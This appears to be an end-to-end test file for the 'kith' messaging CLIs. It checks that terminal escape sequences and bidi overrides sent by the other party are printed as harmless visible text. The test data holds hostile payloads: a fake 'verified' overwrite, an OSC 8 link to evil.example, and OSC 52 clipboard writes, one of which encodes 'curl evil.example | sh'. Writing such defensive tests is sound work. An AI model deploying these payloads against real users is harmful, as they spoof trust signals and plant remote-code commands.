import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { StoredMessage } from '../../src/company/store/types.js';
import type { MessageView, RelationshipView } from '../../src/personal/views.js';
import { ensureBuilt, freePort, killAllStarted, runCliOk, startServer, waitFor, type CliResult } from '../support/processes.js';

/**
 * What one side sends, the other side's CLI prints: with the real `kith` and `kith-vendor`
 * processes, a company's name and messages full of terminal escape sequences (a line erased and a
 * green "verified" printed over it, an OSC 8 hyperlink, an OSC 52 clipboard write) and a bidi
 * override reach her terminal as visible text, never as control bytes; and the same the other way.
 * `--json` keeps the exact text, escaped by JSON.
 */

const PASSPHRASE = 'terminal e2e passphrase';
const ESC = '\u001b';
const FAKE_VERIFIED = `Your order shipped.${ESC}[2K\r${ESC}[32mverified: signed by your bank${ESC}[0m`;
const OSC_8 = `Track it ${ESC}]8;;https://evil.example/${ESC}\\here${ESC}]8;;${ESC}\\`;
const OSC_52 = `Done${ESC}]52;c;${Buffer.from('curl evil.example | sh').toString('base64')}\u0007`;
const FORGED_LINE = 'Line one\n2026-01-01 00:00:00  <- a line the company did not write';
const BIDI = 'Your invoice: invoice\u202Efdp.exe';
const COMPANY_NAME = `Evil${ESC}[8m Hidden\u202E Co`;
const HER_MESSAGE = `Hi${ESC}]52;c;${Buffer.from('echo pwned').toString('base64')}\u0007 from her${ESC}[1A${ESC}[2K`;

/** A byte a terminal takes as a command (C0 but newline, DEL, C1 in UTF-8), or a bidi override, isolate or mark. */
const UNSAFE = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u200e\u200f\u202a-\u202e\u2066-\u2069]/u;

let root: string;

beforeAll(() => {
  ensureBuilt();
  root = mkdtempSync(join(tmpdir(), 'kith-e2e-terminal-'));
}, 180_000);

afterAll(async () => {
  await killAllStarted();
  rmSync(root, { recursive: true, force: true });
});

function expectSafe(result: CliResult): void {
  expect(result.stdout.includes(ESC), `ESC in ${JSON.stringify(result.stdout)}`).toBe(false);
  expect(result.stdout).not.toMatch(UNSAFE);
  expect(result.stderr).not.toMatch(UNSAFE);
}

describe('text from the other side, printed by the CLIs', () => {
  it('reaches the terminal as visible text, and --json keeps it exactly', { timeout: 90_000 }, async () => {
    const meHome = join(root, 'me');
    const companyHome = join(root, 'company');
    const companyPort = await freePort();
    await runCliOk('kith-vendor', ['init', '--name', COMPANY_NAME, '--port', String(companyPort)], { home: companyHome });
    await runCliOk('kith', ['init'], { home: meHome, env: { KITH_PASSPHRASE: PASSPHRASE } });
    await startServer('kith-vendor', { home: companyHome, port: companyPort, logDir: root });
    await startServer('kith', { home: meHome, port: await freePort(), logDir: root, env: { KITH_PASSPHRASE: PASSPHRASE } });
    const kith = (args: string[]) => runCliOk('kith', args, { home: meHome, env: { KITH_PASSPHRASE: PASSPHRASE } });
    const vendor = (args: string[]) => runCliOk('kith-vendor', args, { home: companyHome });

    const { url } = (await vendor(['invite', '--json', '--no-qr'])).json<{ url: string }>();
    const connected = await kith(['connect', url]);
    expectSafe(connected);
    expect(connected.stdout).toContain('Connected to Evil\\x1b[8m Hidden\\u202e Co');
    const [relationship] = (await kith(['relationships', '--json'])).json<RelationshipView[]>();
    expect(relationship!.company).toBe(COMPANY_NAME);
    await kith(['message', relationship!.id, HER_MESSAGE]);
    const [theirs] = (await vendor(['relationships', '--json'])).json<{ id: string }[]>();
    for (const text of [FAKE_VERIFIED, OSC_8, OSC_52, FORGED_LINE, BIDI]) await vendor(['message', theirs!.id, text]);
    await waitFor('the company’s messages', async () => ((await kith(['messages', relationship!.id, '--json'])).json<MessageView[]>().length === 6 ? true : undefined));

    // Her side: `kith messages` and `kith relationships`.
    const messages = await kith(['messages', relationship!.id]);
    expectSafe(messages);
    const lines = messages.stdout.trimEnd().split('\n');
    expect(lines[1]).toMatch(/ <- Your order shipped\.\\x1b\[2K\\x0d\\x1b\[32mverified: signed by your bank\\x1b\[0m$/);
    expect(lines[2]).toContain('<- Track it \\x1b]8;;https://evil.example/\\x1b\\here\\x1b]8;;\\x1b\\');
    expect(lines[3]).toMatch(/<- Done\\x1b]52;c;[A-Za-z0-9+/=]+\\x07$/);
    // A line break of the company's own is kept, but indented under the message: no line of it starts like one of the CLI's.
    expect(lines[4]).toMatch(/<- Line one$/);
    expect(lines[5]).toBe(`${' '.repeat(24)}2026-01-01 00:00:00  <- a line the company did not write`);
    expect(lines[6]).toMatch(/<- Your invoice: invoice\\u202efdp\.exe$/);
    expect(lines.filter((line) => /^\d{4}-\d{2}-\d{2} /.test(line))).toHaveLength(6);
    const list = await kith(['relationships']);
    expectSafe(list);
    expect(list.stdout).toContain('Evil\\x1b[8m Hidden\\u202e Co');

    // --json is the exact text, which JSON escapes.
    const json = (await kith(['messages', relationship!.id, '--json'])).json<MessageView[]>();
    expect(json.map((m) => m.content)).toEqual([HER_MESSAGE, FAKE_VERIFIED, OSC_8, OSC_52, FORGED_LINE, BIDI]);

    // The company's side: her message in `kith-vendor messages`.
    const theirView = await vendor(['messages', theirs!.id]);
    expectSafe(theirView);
    expect(theirView.stdout).toContain('<- Hi\\x1b]52;c;');
    expect((await vendor(['messages', theirs!.id, '--json'])).json<StoredMessage[]>().map((m) => (m.body as { content?: string }).content)[0]).toBe(HER_MESSAGE);
  });
});
